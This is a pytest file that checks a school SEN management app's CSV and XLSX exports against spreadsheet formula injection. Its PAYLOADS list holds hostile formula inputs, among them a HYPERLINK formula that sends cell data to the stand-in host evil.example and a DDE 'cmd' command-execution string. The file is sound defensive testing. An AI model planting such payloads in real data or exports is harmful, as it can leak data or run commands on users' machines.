"""Formula injection: a pupil's name, a provision's name or an LA's name typed as a spreadsheet
formula comes out of EVERY CSV/XLSX export as text, never as a formula (core/documents.py
`safe_cell` and the XLSX string type). Each export is fetched through its URL as the SENCO."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sendco.accounts.roles import Role
from sendco.core.documents import FORMULA_PREFIXES
from tests.provision.fixtures import provision_setup
from tests.statutory_records import make_records

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]


@pytest.fixture
def hostile(cast):
    cast.pupil.legal_forename, cast.pupil.legal_surname = PAYLOADS[0], PAYLOADS[1]
    cast.pupil.preferred_forename = PAYLOADS[4]
    cast.pupil.save()
    cast.unlinked.legal_forename, cast.unlinked.legal_surname = PAYLOADS[2], PAYLOADS[3]
    cast.unlinked.save()
    made = provision_setup(cast)
    group = made["linked"]
    group.name = PAYLOADS[5]
    group.save()
    group.provision.name = PAYLOADS[0]
    group.provision.save()
    records = make_records(cast.pupil)
    for record in (records["request"], records["plan"]):
        record.la_name = PAYLOADS[1]
        record.save()
    return cast


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx(response):
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell became a formula"
    return [[c.value for c in cells]]


def _exports(cast):
    census = f"{reverse('register-census')}?school={cast.school.pk}"
    return [
        ("register csv", f"{reverse('register')}?export=csv", _csv),
        ("register xlsx", f"{reverse('register')}?export=xlsx", _xlsx),
        ("census csv", f"{census}&export=csv", _csv),
        ("census xlsx", f"{census}&export=xlsx", _xlsx),
        ("EHC deadlines xlsx", reverse("statutory-dashboard-export"), _xlsx),
        ("provision map xlsx", reverse("provision-map-xlsx"), _xlsx),
        ("impact xlsx", reverse("provision-impact-xlsx"), _xlsx),
        ("pupil provision xlsx", reverse("provision-pupil-xlsx", args=[cast.pupil.pk]), _xlsx),
    ]


def test_every_export_neutralises_formula_payloads(hostile, client):
    client.force_login(hostile.user(Role.SENCO))
    checked = []
    for name, url, read in _exports(hostile):
        response = client.get(url)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith(("text/csv", "application/vnd.openxml")), name
        cells = [c for row in read(response) for c in row if isinstance(c, str)]
        dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
        assert not dangerous, (name, dangerous)
        assert any(c.lstrip("'") in PAYLOADS for c in cells), f"{name}: no payload reached the export"
        checked.append(name)
    assert len(checked) == 8
